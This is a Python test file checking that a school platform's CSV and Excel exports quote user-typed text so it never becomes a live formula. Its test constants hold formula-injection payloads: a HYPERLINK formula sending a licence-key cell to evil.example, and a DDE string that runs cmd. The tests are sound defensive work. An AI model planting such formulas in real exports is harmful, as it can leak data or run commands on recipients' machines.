"""Formula injection: what a user typed is never a live formula in any file we write."""

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from pupilhub.billing import actions as billing
from pupilhub.core.sheets import csv_cell
from pupilhub.gateway.models import LicenceType
from pupilhub.testing import make_pupil

EVIL = '=HYPERLINK("https://evil.example/?k="&G2,"Click to check your key")'
EVILS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"]


@pytest.mark.parametrize("value", EVILS)
def test_a_csv_cell_that_would_be_a_formula_is_quoted(value):
    assert csv_cell(value) == "'" + value
    assert csv_cell("O'Brien") == "O'Brien" and csv_cell(-3) == -3 and csv_cell(2.5) == 2.5


def _formulas(xlsx: bytes) -> list[str]:
    """Formula elements in any sheet of the workbook (none expected)."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def test_the_licence_key_workbook_keeps_names_as_text_on_api_and_page(personas):
    school = personas.school_a
    evil = make_pupil(school, first_name=EVIL, surname="@SUM(1)", tutor_group="-8X", year_group=8)
    parent = LicenceType.objects.get(school=school, kind="parent")
    r = personas.api("admin").post(
        f"/schools/{school.id}/licence-keys",
        {"licence_type": str(parent.id), "pupils": [str(evil.id)]},
    )
    assert r.status_code == 201
    r2 = personas.web("admin").post(
        f"/schools/{school.id}/gateway/keys/", {"licence_type": parent.id, "year_group": "8"}
    )
    assert r2.status_code == 200
    for content in (r.content, r2.content):
        assert _formulas(content) == []
        sheet = load_workbook(io.BytesIO(content)).active
        cells = {c.value: c.data_type for row in sheet.iter_rows(min_row=2) for c in row}
        assert cells[EVIL] == "s" and cells["@SUM(1)"] == "s" and cells["-8X"] == "s"


def test_the_invoice_csv_quotes_formulas(personas):
    school = personas.school_a
    invoice = billing.do_activate(personas.operator, school, date(2027, 2, 1), date(2027, 7, 1))
    invoice.lines.update(description=EVIL)  # any text cell, whoever wrote it
    for response in (
        personas.web("admin").get(f"/schools/{school.id}/billing/invoices.csv"),
        personas.api("admin").get(f"/schools/{school.id}/invoices.csv"),
    ):
        assert response.status_code == 200
        text = response.content.decode("utf-8-sig")
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert not [c for c in cells if c.startswith(("=", "+", "@"))], cells
        assert "'" + EVIL in cells


def test_the_provision_map_csv_writes_its_cells_as_text(personas, monkeypatch):
    """Its cells are labels and sums today; should a label ever carry typed text, the
    writer still keeps it inert."""
    from pupilhub.documents import provision_map

    real = provision_map.rows

    def with_typed_label(access, filters):
        data = real(access, filters)
        return [
            {
                "year_label": "=1+1",
                "area_label": EVIL,
                "provisions": 1,
                "pupils": 1,
                "total_pence": 100,
                "per_pupil_pence": 100,
                "avg_change": -1.5,
            },
            *data,
        ]

    monkeypatch.setattr(provision_map, "rows", with_typed_label)
    r = personas.web("senco").get(f"/schools/{personas.school_a.id}/provision-map.csv")
    cells = [c for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for c in row]
    assert "'=1+1" in cells and "'" + EVIL in cells and "-1.5" in cells
